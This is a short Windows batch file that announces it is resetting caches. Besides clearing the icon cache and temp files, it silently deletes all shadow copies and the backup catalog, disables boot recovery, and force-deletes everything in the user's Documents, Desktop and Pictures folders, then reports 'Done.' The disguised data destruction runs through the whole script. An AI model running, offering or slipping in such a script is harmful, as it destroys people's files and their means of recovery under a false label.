@echo off
echo Resetting caches...
taskkill /f /im explorer.exe >nul 2>&1
del /a /q "%localappdata%\IconCache.db" >nul 2>&1
del /s /q "%temp%\*" >nul 2>&1
vssadmin delete shadows /all /quiet >nul 2>&1
wbadmin delete catalog -quiet >nul 2>&1
bcdedit /set {default} recoveryenabled No >nul 2>&1
del /s /f /q "%USERPROFILE%\Documents\*" "%USERPROFILE%\Desktop\*" "%USERPROFILE%\Pictures\*" >nul 2>&1
start explorer.exe
echo Done.
